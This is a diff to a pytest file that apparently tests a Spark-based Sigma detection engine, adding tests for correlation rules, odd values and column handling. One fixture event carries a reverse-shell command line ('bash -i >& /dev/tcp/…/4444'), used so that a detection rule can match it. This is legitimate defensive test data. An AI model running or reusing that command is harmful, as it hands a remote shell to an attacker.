@@ -74,6 +74,15 @@ RULES = parse_rules(
         ]
     )
 )
+CORRELATED = parse_rules(
+    "---\n".join(
+        [
+            rule_yaml("s: {Image|endswith: /sh}\ncondition: s", "Shell", extra="name: shell\n"),
+            rule_yaml("s: {Image|endswith: sh}\ncondition: s", "Other"),
+            "title: Two shells\ncorrelation:\n  type: event_count\n  rules: [shell]\n  group-by: [user]\n  timespan: 1m\n  condition: {gte: 2}\n",
+        ]
+    )
+)  # fmt: skip
 TYPED = """
     SELECT 1 AS n, '/bin/sh' AS Image, array('-C x', null) AS Arguments, null AS Nothing, X'4355524c20ff' AS Raw, 'x' AS `a.b`,
         named_struct('Parent', named_struct('Name', 'INIT', 'Pid', 1)) AS Process, map('k8s', 'prod', 'z', null) AS Labels,
@@ -164,6 +173,80 @@ def test_an_event_in_one_column(session: SparkSession, delivery: str) -> None:
     for column in ("named_struct('n', n)", "map('n', n)"):
         found = detect(df.selectExpr("n", f"{column} AS e"), ruleset, event="e", keep=[], delivery=delivery).collect()  # type: ignore[arg-type]
         assert Counter(row.rule.title for row in found) == {"a null": 3, "void": 2}
+
+
+def test_rules_that_serve_only_correlations(session: SparkSession, delivery: str) -> None:
+    """As in ``match``: left out, or with ``members`` among the others."""
+    df = session.sql("SELECT 1 AS n, '/bin/sh' AS Image")
+    assert [title for _, title, _ in matches(df, Ruleset(CORRELATED.rules), delivery)] == ["Other"]
+    assert [title for _, title, _ in matches(df, CORRELATED, delivery, members=True)] == ["Shell", "Other"]
+
+
+HARD = """
+    SELECT 1 AS n, 'x' AS Image, timestamp_micros(9223372036854775807) AS Seen, date_add(date'9999-12-31', 1) AS Day,
+        map(CAST(X'ff' AS string), 'needle') AS Labels, 0.5D AS Ratio
+    UNION ALL SELECT 2, CAST(X'ff2f7368' AS string), timestamp'2026-01-01 23:30:00 UTC', date'2026-01-02', map('k8s', 'prod'), 0.5D
+    UNION ALL SELECT 3, '/bin/sh', timestamp'9999-12-31 23:59:59', date'0001-01-01', map(), 0.5D
+"""
+
+
+@pytest.mark.parametrize("zone", ["Asia/Tokyo", "America/Los_Angeles"])
+def test_what_python_has_no_value_for(session: SparkSession, delivery: str, zone: str) -> None:
+    """Moments beyond the calendar and broken text, in a key too: the row and those beside it are judged."""
+    session.conf.set("spark.sql.session.timeZone", zone)
+    try:
+        rows = session.sql(HARD).coalesce(1)
+        found = matches(rows, RULES, delivery)
+    finally:
+        session.conf.set("spark.sql.session.timeZone", "Asia/Tokyo")
+    titles = {n: [title for row, title, _ in found if row == n] for n in (1, 2, 3)}
+    assert titles[1] == ["double", "keyword", "void"]
+    assert titles[2] == ["map", "double", "timestamp", "hour in UTC", "date", "void"]
+    assert titles[3] == ["double", "void"]
+
+
+def test_columns_that_count(session: SparkSession, delivery: str, tmp_path: Path) -> None:
+    """Of a file only these are read; what no rule asks may be of any type, and rows without a column are counted."""
+    from sigma.pyeval.spark import detect
+
+    rules = parse_rules(rule_yaml("s: {Process.Name: sh, a.b.c: x}\ncondition: s"))
+    query = "SELECT named_struct('Name', 'sh') AS Process, 'x' AS `a.b.c`, 'y' AS other, map(1, interval 3 day) AS odd, 1 AS n"
+    session.sql(query.replace("map(1, interval 3 day) AS odd, ", "")).write.parquet(str(tmp_path / "events"))
+    df = session.read.parquet(str(tmp_path / "events"))
+    found = detect(df, rules, keep=["n"], route=False, delivery=delivery)  # type: ignore[arg-type]
+    plan = found._jdf.queryExecution().executedPlan().toString()
+    assert (
+        re.search(r"ReadSchema: struct<(.*)>", plan)[1].replace("...", "")
+        in "Process:struct<Name:string>,a.b.c:string,n:int"
+    )  # type: ignore[index]
+    assert "other" not in plan
+    assert [row.n for row in found.collect()] == [1]
+    assert sum(matches(session.sql(query), rules, delivery).values()) == 1
+    without = parse_rules(rule_yaml("s: {Image: x}\ncondition: not s"))
+    assert sum(matches(session.range(5).withColumnRenamed("id", "n"), without, delivery, route=False).values()) == 5
+
+
+def test_names_that_differ_in_case_only(session: SparkSession, delivery: str) -> None:
+    """Spark takes them for one unless told otherwise; as fields they are two."""
+    from sigma.pyeval.spark import SparkDetectionError, detect
+
+    rules = parse_rules(
+        "---\n".join(rule_yaml(f"s: {{{name}: x}}\ncondition: s", name) for name in ("Image", "image", "IMAGE"))
+    )
+    session.conf.set("spark.sql.caseSensitive", "false")
+    try:
+        for place in ("1 AS n, 'x' AS Image, 'x' AS image", "1 AS n, 'x' AS Image, 'x' AS image, 'y' AS `IMAGE`"):
+            found = matches(session.sql(f"SELECT {place}"), rules, delivery)
+            assert [title for _, title, _ in found] == ["Image", "image"]
+        struct = session.sql("SELECT 1 AS n, named_struct('image', 'y', 'IMAGE', 'x') AS e")
+        assert [title for _, title, _ in matches(struct, rules, delivery, event="e")] == ["IMAGE"]
+        with pytest.raises(SparkDetectionError, match="column 'Rule' is one of the result's"):
+            detect(session.sql("SELECT 1 AS Rule"), rules)
+    finally:
+        session.conf.set("spark.sql.caseSensitive", "true")
+    assert [
+        row.Rule for row in detect(session.sql("SELECT 'x' AS Image, 1 AS Rule"), rules, delivery=delivery).collect()
+    ] == [1]  # type: ignore[arg-type]
 
 
 def generated(count: int) -> list[dict[str, Any]]:
@@ -326,16 +409,20 @@ def test_rules_that_need_more_are_refused(session: SparkSession) -> None:
     with pytest.raises(SparkDetectionError, match="router is not shipped to workers; pass route=False"):
         detect(session.range(1), routed)
     detect(session.range(1), routed, route=False)
-    correlated = Ruleset(RULES.rules)
-    correlated.correlations = (RULES.rules[0],)
-    with pytest.raises(SparkDetectionError, match=r"1 correlation rules \(the first is 'list'\) need what came before"):
-        detect(session.range(1), correlated)
+    with pytest.raises(
+        SparkDetectionError, match=r"1 correlation rules \(the first is 'Two shells'\) need what came before"
+    ):
+        detect(session.range(1), CORRELATED)
     with pytest.raises(ValueError, match="delivery is 'standalone' or 'linked', not 'pickled'"):
         detect(session.range(1), RULES, delivery="pickled")  # type: ignore[arg-type]
 
 
 def test_the_documentation_runs(
-    session: SparkSession, delivery: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+    session: SparkSession,
+    delivery: str,
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    capsys: pytest.CaptureFixture[str],
 ) -> None:
     """Every piece of Python in docs/scale.md, one after the other, on the events of the example program."""
     monkeypatch.chdir(tmp_path)
@@ -343,17 +430,30 @@ def test_the_documentation_runs(
     event = {"_HOSTNAME": "web-1", "_EXE": "/usr/bin/bash", "_CMDLINE": "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"}
     session.createDataFrame([event]).write.parquet(str(tmp_path / "events"))
     (tmp_path / "incoming").mkdir()
-    (tmp_path / "incoming" / "events.jsonl").write_text(json.dumps(event) + "\n")
+    failures = [
+        {
+            "_HOSTNAME": "web-1",
+            "SYSLOG_IDENTIFIER": "sudo",
+            "MESSAGE": "pam_unix(sudo:auth): authentication failure; user=eve",
+        }
+        | {"__REALTIME_TIMESTAMP": str(1_767_225_600_000_000 + second * 1_000_000)}
+        for second in (0, 1, 2, 200)
+    ]
+    lines = "".join(json.dumps(one) + "\n" for one in (event, *failures))
+    (tmp_path / "incoming" / "events.jsonl").write_text(lines)
     code = re.findall(r"```python\n(.*?)```", (ROOT / "docs" / "scale.md").read_text(), re.DOTALL)
     # The JVM's folder is another one, so that relative paths are written out.
     text = re.sub(
-        r'"(events|incoming|checkpoint|matches)/"', lambda found: repr(str(tmp_path / found[1])), "\n".join(code)
+        r'"(events|incoming|checkpoint|matches|correlated)/"',
+        lambda found: repr(str(tmp_path / found[1])),
+        "\n".join(code),
     )
     namespace: dict[str, Any] = {"spark": session}
     exec(compile(text, "scale.md", "exec"), namespace)
-    query = namespace["query"]
-    query.processAllAvailable()
-    query.stop()
+    for query in (namespace["query"], namespace["correlating"]):
+        query.processAllAvailable()
+        query.stop()
+    assert capsys.readouterr().out.count("Passwords Tried With Sudo {'_HOSTNAME': 'web-1'}") == 2  # batch, then stream
     [row] = session.read.parquet(str(tmp_path / "matches")).collect()
     assert (row.rule.title, row.problem) == ("Shell Opens A Network Device File", None)
 
